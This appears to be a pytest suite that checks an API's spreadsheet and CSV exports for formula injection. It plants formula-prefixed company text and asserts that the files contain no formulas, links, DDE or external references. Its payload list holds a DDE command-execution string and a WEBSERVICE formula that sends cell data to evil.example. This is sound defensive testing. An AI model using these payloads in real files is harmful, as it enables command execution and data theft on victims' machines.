"""No text of a company becomes a formula in any file that leaves: every export, every template, every archive."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import dataclass
from typing import Any
from uuid import uuid4

import httpx
import openpyxl
import pytest
import pytest_asyncio

from edge_api.features.exports.writers import CSV_MEDIA_TYPE
from tests.api.world import Company, World, bearer
from tests.support.openapi import Operation, operations

pytestmark = pytest.mark.asyncio(loop_scope="session")
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u3000=", "\u00a0@"]
#: What a spreadsheet may run: a program, a request that carries cells away, a link.
PAYLOADS = ["cmd|' /C calc'!A0", 'WEBSERVICE("http://evil.example/"&A1)', 'HYPERLINK("http://evil.example","x")']
FILES = [
    operation
    for operation in sorted(operations(), key=str)
    if operation.path.endswith(("/export", "/import-template")) and operation.method == "GET"
]
# Counts and sums by code: no text of a company is in it.
WITHOUT_TEXT = {"/api/v1/dashboards/export"}


@dataclass(frozen=True)
class Planted:
    """A company whose every text is a formula, with what hangs on it; `mark` is in each of them."""

    company: Company
    staff: str
    mark: str


def texts(mark: str) -> list[str]:
    return [f"{start}{PAYLOADS[index % 3]}{mark}" for index, start in enumerate(STARTS)]


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def planted(world: World) -> Planted:
    mark = uuid4().hex[:8]
    company = await world.company(approved=True)
    await world.run(
        "update public.members set company_name = %s, representative = %s, description = %s, address = %s where id = %s",
        f"=1+1{mark}", f"@SUM(1){mark}", f"\t=1{mark}", f"＝1+1{mark}", company.id,
    )  # fmt: skip
    await plant_records(world, company, mark)
    await plant_suite(world, company, mark)
    staff = await world.staff("portal:*", "audt.audit_logs:read", "audt.audit_logs:export")
    agent = f"=cmd|' /C calc'!A0{mark}"
    answer = await world.get(f"/api/v1/members/export?search={mark}", staff, **{"user-agent": agent})
    assert answer.status_code == 200, answer.text
    return Planted(company, staff, mark)


async def plant_records(world: World, company: Company, mark: str) -> None:
    record = await world.row(
        "insert into public.performance_records (member_id, year, status, submitted_at)"
        " values (%s, 2024, 'submitted', now()) returning id",
        company.id,
    )
    await world.run(
        "insert into public.performance_sales (performance_id, export_country1) values (%s, %s)",
        record["id"],
        f"+1{mark}",
    )
    for number, text in enumerate(texts(mark), 1):
        await world.run(
            "insert into public.performance_supports (performance_id, sort_order, project_name) values (%s, %s, %s)",
            record["id"], number, text,
        )  # fmt: skip
    project = await world.row(
        "insert into public.projects (title, start_date, end_date, state) values (%s, '2025-01-01', '2025-01-31', 'active')"
        " returning id",
        f"-2+3{mark}",
    )
    await world.run(
        "insert into public.project_applications (project_id, member_id, applicant_name, applicant_phone,"
        " application_reason) values (%s, %s, %s, '010-1234-5678', %s)",
        project["id"], company.id, f"=담당{mark}", f"@신청하는 사유가 충분합니다. {mark}",
    )  # fmt: skip
    await world.run(
        "insert into public.nice_dnb_company_info (biz_no, cmp_nm, ceo_nm, addr1) values (%s, %s, %s, %s)",
        company.business_number, f"=1+1{mark}", f"＋1{mark}", f"－1{mark}",
    )  # fmt: skip


async def plant_suite(world: World, company: Company, mark: str) -> None:
    """Partners, and the groups that a template of partners offers for choice."""
    for number, text in enumerate(texts(mark)):
        await world.run(
            "insert into crm.partners (tenant_id, name, type) values (%s, %s, 'customer')", company.id, text
        )
        await world.run(
            "insert into adm.units (tenant_id, code, name, unit_type, conversion_rate) values (%s, %s, %s, 'weight', 1)",
            company.id, f"F{mark.upper()}{number}", text,
        )  # fmt: skip


def cells(content: bytes) -> list[str]:
    """Every text of a workbook, which holds no formula, no link and no outside reference."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = book.namelist()
        assert not [name for name in names if "externalLink" in name or "vba" in name.lower() or "connections" in name]
        for name in names:
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]|<hyperlink|<dde", book.read(name)), name
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in book.read(name), name
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    found = [
        cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]
    assert all(cell.data_type != "f" for cell in found)
    return [cell.value for cell in found if isinstance(cell.value, str)]


def fields(content: bytes) -> list[str]:
    """Every field of a CSV file, none of which a spreadsheet calculates."""
    found = [field for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for field in row]
    for field in found:
        is_number = re.fullmatch(r"[+-]?\d+(\.\d+)?", field)
        assert is_number or not field.strip().startswith(tuple("=+-@＝＋－＠")), field
        assert not field.startswith(("\t", "\r", "\n")), field
    return found


def path_of(operation: Operation, planted: Planted) -> tuple[str, dict[str, Any], str]:
    """Path, filters and token that find what was planted."""
    path = operation.path.replace("{business_number}", planted.company.business_number)
    if "{entity}" in path:
        # the choices of a template are the names of what a column may point at
        entity = ("pim", "products") if path.endswith("/import-template") else ("crm", "partners")
        return path.format(schema=entity[0], entity=entity[1]), {}, planted.company.token
    query: dict[str, Any] = {"search": planted.mark}
    if "statistics" in path:
        query = {"search_query": planted.mark}
    elif "audit-logs" in path:
        query = {"occurred_from": "2000-01-01", "occurred_to": "2000-01-02"}
    elif "dashboards" in path or path.endswith("/company/export"):
        query = {}
    return path, query, planted.staff


async def ask(world: World, operation: Operation, planted: Planted, **more: str) -> httpx.Response:
    path, query, token = path_of(operation, planted)
    if "audit-logs" in path:
        today = (await world.row("select (now() at time zone 'Asia/Seoul')::date::text as day"))["day"]
        query = {"occurred_from": today, "occurred_to": today, "action": "export"}
    answer = await world.api.get(path, params=query | more, headers=bearer(token))
    assert answer.status_code == 200, answer.text
    return answer


@pytest.mark.parametrize("operation", FILES, ids=lambda operation: operation.path)
async def test_a_workbook_holds_text_only(world: World, planted: Planted, operation: Operation) -> None:
    found = [text for text in cells((await ask(world, operation, planted)).content) if planted.mark in text]
    assert found or operation.path in WITHOUT_TEXT, "nothing that was planted is in the file"


WITH_CSV = [operation for operation in FILES if CSV_MEDIA_TYPE in operation.described["responses"]["200"]["content"]]


@pytest.mark.parametrize("operation", WITH_CSV, ids=lambda operation: operation.path)
async def test_a_csv_file_calculates_nothing(world: World, planted: Planted, operation: Operation) -> None:
    parts = ("sales", "supports", "ip") if "performance" in operation.path else (None,)
    found: list[str] = []
    for part in parts:
        more = {"format": "csv"} | ({"part": part} if part else {})
        found += fields((await ask(world, operation, planted, **more)).content)
    assert any(planted.mark in field for field in found) or operation.path in WITHOUT_TEXT


async def test_what_was_guarded_comes_in_again_as_it_was(world: World, planted: Planted) -> None:
    units = "/api/v1/tenants/adm/units"
    token = planted.company.token
    query = {"format": "csv", "code": f"like.F{planted.mark.upper()}*"}
    exported = await world.api.get(f"{units}/export", params=query, headers=bearer(token))
    answer = await world.api.post(
        f"{units}/import?dry_run=true", files={"file": ("units.csv", exported.content)}, headers=bearer(token)
    )
    report = answer.json()["data"]
    assert (report["unchanged"] + report["updated"], report["created"]) == (len(STARTS), 0), report
    assert report["errors"] == []
